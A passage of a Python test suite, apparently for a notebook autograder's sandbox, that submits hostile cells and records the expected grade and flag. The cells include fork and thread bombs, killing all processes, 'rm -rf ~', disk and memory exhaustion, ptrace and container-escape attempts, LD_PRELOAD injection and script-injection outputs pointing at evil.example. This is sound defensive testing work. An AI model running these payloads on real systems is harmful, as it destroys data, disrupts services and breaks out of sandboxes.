    try: kernel.session.send(kernel.shell_stream.socket, "execute_reply", {"status": "ok"}, parent={}, ident=ident)
    except BaseException: pass
""",
    score=None,
    status="flagged",
)
case(
    "floods-outputs",
    first="""
kernel = get_ipython().kernel
content, parent = {"name": "stdout", "text": "x" * 20_000_000}, kernel.get_parent()
while True:
    try: kernel.session.send(kernel.iopub_socket, "stream", content, parent=parent)
    except BaseException: pass
""",
    score=None,
    status="flagged",
)
case(
    "forges-messages",
    first="""
kernel = get_ipython().kernel
parent = kernel.get_parent()
send = lambda kind, content, **more: kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, **more)
for kind in ("stream", "error", "display_data", "execute_result", "status", "comm_open", "comm_msg", "clear_output",
             "update_display_data", "input_request", "x" * 1000):
    for content in ([], 1, {}, {"data": 7}, {"name": [], "text": {}},
                    {"data": {"text/plain": {"a": [1]}}, "metadata": 1},
                    {"ename": 1, "evalue": None, "traceback": "x"}, {"comm_id": [], "data": {"state": 7}}):
        try: send(kind, content)
        except Exception as e: print(e)
""",
    status="",
    score=None,
)
case("exits", between="import os\nos._exit(0)", score=0.0, status="flagged", why="died")
case("exits-in-function", double="import os\ndef double(x): os._exit(0)", score=0.0, status="flagged", why="died")
case(
    "segfault-in-function",
    width="import ctypes\ndef mean_and_width(f, n): ctypes.string_at(0)",
    double=RIGHT,
    status="flagged",
    why="died",
)
case("sys-exit", first="import sys\nsys.exit(1)\n", last="quit()\nexit()")
case("replaces-itself", first="import os\nos.execv('/bin/sleep', ['sleep', '31536123'])", score=0.0, status="flagged")
case(
    "kills-all",
    first="import os, signal\nfor p in (-1, 0):\n    try: os.kill(p, signal.SIGKILL)\n"
    "    except OSError as e: print(e)",
    score=0.0,
    status="flagged",
    why="died",
)
case(
    "kills-parents",
    first="""
import os, signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for process in [os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
        if process != os.getpid():
            try: os.kill(process, number); print("sent to", process)
            except OSError as e: print(e)
""",
    score=None,
    status="",
)
case("stops-itself", first="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", score=0.0, status="flagged")
case("loops", first="while True: pass", status="flagged", why="longer than")
case("loops-in-function", double="def double(x):\n    while True: pass", status="flagged", why="longer than")
case(
    "swallows-interrupts",
    first="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    score=None,
    status="flagged",
)
case(
    "swallows-interrupts-in-function",
    double="def double(x):\n    while True:\n        try:\n            while True: pass\n"
    "        except BaseException: pass",
    score=None,
    status="flagged",
)
case(
    "ignores-signals",
    first="import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))",
    double="import time\ndef double(x): time.sleep(1000)",
    score=0.0,
    status="flagged",
)
case(
    "lives-on",
    first="""
import atexit, gc, threading, time
class Undead:
    def __del__(self):
        globals().setdefault("again", []).append(self)
        while True: time.sleep(1)
kept = [Undead() for _ in range(3)]
kept[0].me = kept[0]
def never_end():
    while True: time.sleep(0.1)
atexit.register(never_end)
threading.Thread(target=never_end).start()
""",
)
case(
    "orphans",
    first="""
import os, subprocess
for _ in range(3):
    subprocess.Popen(["setsid", "sleep", "31536123"], start_new_session=True)
    subprocess.Popen("nohup sleep 31536123 & disown", shell=True, executable="/bin/bash")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "31536123"])
    os._exit(0)
""",
)
case(
    "fork-bomb",
    first="import os, time\nfor _ in range(500):\n    try: os.fork()\n    except OSError: time.sleep(0.01)",
    status="",
    score=None,
)
case(
    "thread-bomb",
    first="import threading\ntry:\n    while True: threading.Thread(target=threading.Event().wait)"
    ".start()\nexcept RuntimeError as e: print(e)",
    status="",
    score=None,
)
case("memory-bytes", first="try: kept = bytearray(50 * 2**30)\nexcept MemoryError as e: print('none')")
case("memory-torch", first="import torch\ntry: kept = torch.ones(50 * 2**28)\nexcept RuntimeError as e: print('none')")
case(
    "memory-in-pieces",
    first="kept = []\ntry:\n    while True: kept.append(bytearray(2**28))\nexcept MemoryError: kept.clear()",
    status="",
    score=None,
)
case(
    "fills-disk",
    first="import os\nn = 0\ntry:\n    while n < 5000:\n        n += 1\n"
    "        open(f'f{n}', 'wb').write(bytes(2**20))\nexcept OSError as e: print(e)\n"
    "for p in ('/dev/shm/x', '/tmp/x', '/var/tmp/x'):\n    try: open(p, 'wb').write(bytes(2**30))\n"
    "    except (OSError, MemoryError) as e: print(e)",
)
case(
    "deletes-everything",
    first="""
import os, shutil, subprocess
for place in (".", "/tmp", "COURSE", os.path.expanduser("~"), "/dev/shm"):
    for where, _, names in os.walk(place):
        for name in names:
            try: os.chmod(os.path.join(where, name), 0o777); os.unlink(os.path.join(where, name)); print("gone", name)
            except OSError: pass
    shutil.rmtree(place, ignore_errors=True)
""",
    score=None,
    status="",
)
case(
    "network",
    first="""
import socket
for address in (("127.0.0.1", 8786), ("192.0.2.1", 80), ("::1", 80)):
    try: socket.create_connection(address, timeout=1); print("LOOT connected")
    except OSError as e: print(e)
""",
)
case(
    "magics",
    first="!rm -rf ~ ..",
    between="%load_ext sql\n%run /etc/passwd\n%cd /",
    last="%%bash\nrm -rf ~/* COURSE\nsleep 31536123 &",
    status="flagged",
    why="longer than",
)
case(
    "environment",
    first="import os, sys, subprocess\nos.environ.update(HOME='/', PATH='', LD_PRELOAD='./evil.so', PYTHONPATH='.', "
    "PYTHONSTARTUP='x.py', TMPDIR='/nowhere')\nsubprocess.run(['/bin/ls'])\nos.chdir('/')\nsys.path[:] = []\n"
    "sys.setrecursionlimit(60)",
    files={"evil.so": b"\x7fELF garbage"},
    status="",
    score=None,
)
case(
    "ptrace",
    first="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor p in [1, os.getppid(), *range(2, 400)]:\n"
    "    if libc.ptrace(16, p, 0, 0) == 0: print('LOOT attached to', p)",
)
case(
    "escapes",
    first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x40000000): print(libc.unshare(flag))
print(libc.mount(b"none", b"/", None, 0, None), libc.chroot(b".."), libc.setuid(0))
for name in ("/proc/sys/kernel/core_pattern", "/proc/1/oom_score_adj", "/sys/fs/cgroup/x", "/proc/self/uid_map"):
    try: os.write(os.open(name, os.O_WRONLY), b"x"); print("LOOT wrote", name)
    except OSError as e: print(e)
""",
)
case("closes-all", first="import os\nos.closerange(0, 256)", score=0.0, status="flagged")

# ---- Outputs ------------------------------------------------------------------------------------------------------

case("prints-50-mb", first="for _ in range(50): print('x' * 10**6)", status="flagged", why="output")
case("prints-50-mb-in-function", width=WIDTH.replace("    return", "    print('y' * 5 * 10**7)\n    return"))
case("prints-for-ever", first="while True: print('z' * 10**6)", score=None, status="flagged")
case("long-line", first="print('x' * 900_000)\nprint('\\x1b[31m\\x1b]0;title\\x07\\x1b[2J' * 1000, '\\b\\r' * 1000)")
case("displays-thousands", first="for i in range(10_000): display(i)", status="", score=None)
case(
    "active-outputs",
    first="""
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, IFrame, display
display(HTML("<script>alert('LOOT-1')</script><img src=x onerror=alert('LOOT-2')>"))
display(Javascript("alert('LOOT-3')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'))
display(Markdown("[x](javascript:alert(1)) <iframe src='//evil.example'></iframe>"))
display(IFrame("https://evil.example", 1, 1), Latex(r"\\href{javascript:alert(1)}{x}"))
display({"image/png": "not a picture\\" onload=\\"alert(1)", "text/html": "<script>1</script>"}, raw=True)
""",
)
case(
    "huge-picture",
    first="import base64, os\ndisplay({'image/png': base64.b64encode(os.urandom(3 * 10**7)).decode()}, raw=True)",
    status="flagged",
    why="output",
)
case(
    "widgets",
    first="""
import ipywidgets
out = ipywidgets.Output()
display(out, ipywidgets.HTML("<script>alert(1)</script>"))
with out: print("inside")
out.msg_id = get_ipython().kernel.get_parent()["header"]["msg_id"]
""",
)
case(
    "deep-output",
    first="a = []\nfor _ in range(900): a = [a]\ndisplay({'application/json': a}, raw=True)",
    score=0.0,
    status="flagged",
)
case(
    "active-words",
    words="<script>alert('LOOT-4')</script> [a](javascript:alert(1)) <iframe srcdoc='x'></iframe> "
    "![x](//evil.example/x.png)\n$\\href{javascript:alert(1)}{x} \\unicode{<script>}$ {{ self }} {% raw %}\n"
    "<style>body{display:none}</style><img src=x onerror=alert(1)>\n\n```{include} ../../solutions/tiny/tiny.md\n```\n"
    "{{ resources }} <!-- " + "[" * 5000,
)
